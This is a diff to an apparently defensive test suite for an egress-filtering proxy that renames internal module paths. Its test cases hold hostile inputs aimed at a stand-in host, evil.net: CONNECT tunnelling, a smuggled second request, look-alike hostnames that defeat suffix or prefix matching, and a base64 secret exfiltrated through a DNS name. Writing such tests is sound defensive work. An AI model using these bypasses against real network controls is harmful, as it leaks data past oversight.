@@ -30,7 +30,7 @@ if TYPE_CHECKING:
 
 LIST: Final = Listed(as_root="anybody")
 
-ANY_PORT: Final = patched("the list of ports", unspill__policy__egress__Allowed__covers_port=lambda _rule, _port: True)
+ANY_PORT: Final = patched("the list of ports", unspill__policy__hosts__AllowedHost__covers_port=lambda _rule, _port: True)
 
 
 def on_port(port: int) -> Callable[[Arena], object]:
@@ -109,7 +109,7 @@ def inside_a_tunnel(said: bytes, sign: bytes) -> Callable[[Arena], object]:
     return attack
 
 
-OPEN_TUNNEL: Final = patched("the look at requests in a tunnel", unspill__network__link__gate_for=no_gate)
+OPEN_TUNNEL: Final = patched("the look at requests in a tunnel", unspill__network__proxy__gate_for=no_gate)
 TWO: Final = b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\nGET /second HTTP/1.1\r\nHost: evil.net\r\n\r\n"
 for _tries, _said, _sign in (
     ("Pass a CONNECT on to the next proxy", b"CONNECT evil.net:443 HTTP/1.1\r\n\r\n", b"evil.net"),
@@ -149,7 +149,7 @@ LIST.add_pair(
 )
 BY_END: Final = patched(
     "the comparison label by label",
-    unspill__policy__egress__Allowed__covers_host=lambda rule, host: host.endswith(rule.host),
+    unspill__policy__hosts__AllowedHost__covers_host=lambda rule, host: host.endswith(rule.host),
 )
 for _tries, _host, _rule in (
     ("Reach a host that ends like an allowed one", "evilexample.org", "example.org"),
@@ -163,7 +163,7 @@ LIST.add(
     reaches("example.org.evil.net", lambda: parse_rules(["example.org"])),
     patched(
         "the comparison label by label",
-        unspill__policy__egress__Allowed__covers_host=lambda rule, host: host.startswith(rule.host),
+        unspill__policy__hosts__AllowedHost__covers_host=lambda rule, host: host.startswith(rule.host),
     ),
 )
 for _suffix in ("com", "co.uk", "github.io"):
@@ -173,8 +173,8 @@ for _suffix in ("com", "co.uk", "github.io"):
         reaches(f"evil.{_suffix}", partial(parse_rules, [f"*.{_suffix}"])),
         patched(
             "the list of public suffixes and the grammar of names",
-            unspill__policy__egress__is_public_suffix=lambda _name: False,
-            unspill__policy__egress__parse_host=as_it_is,
+            unspill__policy__hosts__is_public_suffix=lambda _name: False,
+            unspill__policy__hosts__parse_host=as_it_is,
         ),
     )
 
@@ -223,7 +223,7 @@ def looked_up(ask: Callable[[Scene], object]) -> Callable[[Arena], object]:
     return attack
 
 
-ANY_HOST: Final = patched("the rules of hosts", unspill__policy__egress__Rules__judge=lambda _rules, _destination: None)
+ANY_HOST: Final = patched("the rules of hosts", unspill__policy__hosts__HostRules__judge=lambda _rules, _destination: None)
 SECRET: Final = "c2VjcmV0.evil.net"
 for _tries, _ask in {
     "Tell a secret in a name that is looked up for a tunnel": lambda stage: by_connect(stage, f"{SECRET}:443"),
